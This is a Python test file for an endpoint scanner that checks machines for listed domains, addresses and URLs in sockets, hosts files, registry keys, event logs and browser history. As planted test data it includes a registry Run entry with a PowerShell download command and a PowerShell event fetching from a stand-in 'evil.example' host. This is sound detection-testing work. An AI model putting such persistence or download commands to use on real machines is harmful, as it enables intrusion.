"""Names and addresses on a machine match in the same way as those of a log line."""

from __future__ import annotations

import base64
import json
import sqlite3
from pathlib import Path
from typing import Any

import pytest

from quetsach.endpoint.checking import Options, check
from quetsach.endpoint.fact import fact
from quetsach.endpoint.machines.recording import Recording
from quetsach.endpoint.reporting import result
from quetsach.endpoint.wanted import Wanted
from quetsach.endpoint.watchlist import Watchlist
from quetsach.indicators.indicator import IndicatorSet, Scope
from quetsach.indicators.lists.item import parse
from quetsach.scanning import engine
from quetsach.scanning.engines.portable import PortableMatcher
from tests.endpoint import world

GOLDEN = Path(__file__).parents[1] / "data/golden.jsonl"
CASES = [
    case
    for case in map(json.loads, GOLDEN.read_text(encoding="utf-8").splitlines())
    if all({"matched", "kind", "indicator"} <= hit.keys() for hit in case["expect"])
]
"""The cases that say of each hit what was matched; others ask only for the machine and the action."""
ASKED = ("hit", "not-listed", "label-border", "left-side", "subdomains-only", "exact")


def socket(address: str, port: int, state: str = "ESTABLISHED", local_port: int = 9) -> dict[str, Any]:
    return {"sockets": [{"address": address, "port": port, "local_port": local_port, "state": state}]}


def hits(watchlist: Watchlist, kind: str, **fields: object) -> set[str]:
    return {indicator.canonical for indicator, _matched, _sure in watchlist.of(fact(kind, **fields))}


@pytest.mark.parametrize("case", CASES, ids=[c["id"] for c in CASES])
def test_golden_case(case: dict[str, Any]) -> None:
    """A name, an address or a URL on the machine is compared as in a log (docs/contract.md 1)."""
    matcher = engine.compile(case["indicators"], guard_rails=False, name="portable")
    assert isinstance(matcher, PortableMatcher)
    watchlist = Watchlist(matcher.index.indicators)
    for expected in case["expect"]:
        matched, item = expected["matched"], expected["indicator"]
        if expected["kind"] == "ip-port":
            address, _colon, port = matched.rpartition(":")
            assert hits(watchlist, "connection", address=address.strip("[]"), port=port) == {item}
        elif expected["kind"] == "url":
            assert item in hits(watchlist, "url-seen", url=f"http://{matched}")
        elif expected["kind"] in ("ipv4", "ipv6", "cidr"):
            assert hits(watchlist, "connection", address=matched, port="0") == {item}
        elif "\\x" not in matched:
            assert hits(watchlist, "name-seen", name=matched) == {item}
            assert hits(watchlist, "name-seen", name=f"{matched.upper()}.") == {item}


@pytest.mark.parametrize("case", CASES, ids=[c["id"] for c in CASES])
def test_tokens_of_golden_lines_answer_alike(case: dict[str, Any]) -> None:
    """A name that does not count in a log (docs/contract.md 1) does not count on the machine."""
    matcher = engine.compile(case["indicators"], guard_rails=False, name="portable")
    assert isinstance(matcher, PortableMatcher)
    watchlist = Watchlist(matcher.index.indicators)
    explanation = engine.explain(case["line"], matcher.index.indicators, header=case["header"])
    for note in explanation.notes:
        if note.field == "query" and "\\" not in note.token:
            wanted = {note.indicator.canonical} if note.code == "hit" and note.indicator else set()
            if note.code in ASKED:
                assert hits(watchlist, "name-seen", name=note.token) == wanted


@pytest.mark.parametrize(
    ("name", "listed"),
    [
        ("evil.com", True), ("a.b.EVIL.com.", True), ("notevil.com", False), ("evil.com.example.org", False),
        ("my-evil.com", False), ("xn--bcher-kva.example", True), ("BÜCHER.example", True),
    ],
)  # fmt: skip
def test_names_on_label_borders(name: str, listed: bool) -> None:
    items = [i for text in ("evil.com", "bücher.example") for i in parse(text, Scope.WITH_SUBDOMAINS)[0]]
    assert bool(hits(Watchlist(IndicatorSet(items)), "name-seen", name=name)) is listed


@pytest.mark.parametrize(
    ("plant", "verdict"),
    [
        (socket("::ffff:198.51.100.66", 80, "SYN_SENT"), "found"),
        (socket("203.0.113.5", 8443), "found"),
        (socket("203.0.113.5", 443), "clean"),
        # Port 445 is served here: the peer called in.
        (socket("198.51.100.66", 50_000, local_port=445), "clean"),
        ({"processes": [{"pid": 9, "name": "x", "program": "", "command": "ping evil.example"}]}, "check"),
        ({"resolver_cache": ["a.EVIL.example"]}, "check"),
        ({"files": {world.HOSTS: "198.51.100.66 intranet\n"}}, "found"),
        ({"files": {world.HOSTS: "0.0.0.0 evil.example\n"}}, "clean"),
        (
            {
                "registry": {
                    r"HKU\an\Software\Microsoft\Windows\CurrentVersion\Internet Settings": {
                        "ProxyEnable": 1, "ProxyServer": "http=evil.example:3128",
                    }
                }
            },
            "found",
        ),
        (
            {
                "registry": {
                    r"HKU\an\Software\Microsoft\Windows\CurrentVersion\Run": {
                        "x": "powershell -c iwr http://example.net/a/b?c -o x"
                    }
                }
            },
            "found",
        ),
        ({"files": {world.HISTORY: "ping evil.example\n"}}, "check"),
        ({"files": {world.HISTORY: "ping notevil.example\n"}}, "clean"),
    ],
)  # fmt: skip
def test_planted_indicators(plant: dict[str, Any], verdict: str) -> None:
    result = world.look_at_recording(world.planted(plant))
    assert str(result.verdict) == verdict
    assert bool([one for one in result.findings if one.indicator]) is (verdict != "clean")


@pytest.mark.parametrize(
    ("log", "provider", "number", "data", "indicator"),
    [
        (
            "Microsoft-Windows-Sysmon%4Operational.evtx", "Microsoft-Windows-Sysmon", 22,
            {"QueryName": "cc.evil.example", "Image": r"C:\x.exe"}, "evil.example",
        ),
        (
            "Microsoft-Windows-Sysmon%4Operational.evtx", "Microsoft-Windows-Sysmon", 3,
            {"DestinationIp": "198.51.100.66", "DestinationPort": 443, "Image": r"C:\x.exe"}, "198.51.100.66",
        ),
        (
            "Security.evtx", "Microsoft-Windows-Security-Auditing", 5156,
            {"DestAddress": "203.0.113.5", "DestPort": "8443", "Direction": "%%14593", "Application": "x"},
            "203.0.113.5:8443",
        ),
        (
            "Security.evtx", "Microsoft-Windows-Security-Auditing", 5156,
            {"DestAddress": "203.0.113.5", "DestPort": "8443", "Direction": "%%14592", "Application": "x"},
            "",
        ),
        (
            "Microsoft-Windows-PowerShell%4Operational.evtx", "Microsoft-Windows-PowerShell", 4104,
            {"ScriptBlockText": "a\niwr http://evil.example/x"}, "evil.example",
        ),
    ],
)  # fmt: skip
def test_planted_events_recorded(log: str, provider: str, number: int, data: Any, indicator: str) -> None:
    system = {
        "Provider": {"#attributes": {"Name": provider}},
        "EventID": {"#text": number, "#attributes": {"Qualifiers": 0}},
        "TimeCreated": {"#attributes": {"SystemTime": "2026-11-02T01:02:03Z"}},
    }
    machine = world.planted({"events": {log: [{"System": system, "EventData": data}]}})
    found = {one.indicator for one in world.look_at_recording(machine).findings}
    assert found == ({indicator} if indicator else set())


@pytest.mark.parametrize("is_asked", [False, True])
def test_browser_history_only_where_it_is_asked_for(is_asked: bool) -> None:
    database = sqlite3.connect(":memory:")
    database.executescript(
        "CREATE TABLE urls(url, last_visit_time);"
        "INSERT INTO urls VALUES('https://evil.example/x?y', 13380000000000000), ('https://rieng.example', 1)"
    )
    content = base64.b64encode(database.serialize()).decode()
    database.close()
    place = r"C:\Users\an\AppData\Local\CocCoc\Browser\User Data\Default\History"
    told = world.planted({"files": {place: {"base64": content}}})
    machine = Recording(world.recording(told))
    done = check(machine, Wanted(indicators=world.LISTED), Options(with_history=is_asked))
    assert {one.indicator for one in done.findings} == ({"evil.example"} if is_asked else set())
    assert str(done.verdict) == ("traces" if is_asked else "clean")
    assert "rieng.example" not in json.dumps(result.as_table(done))
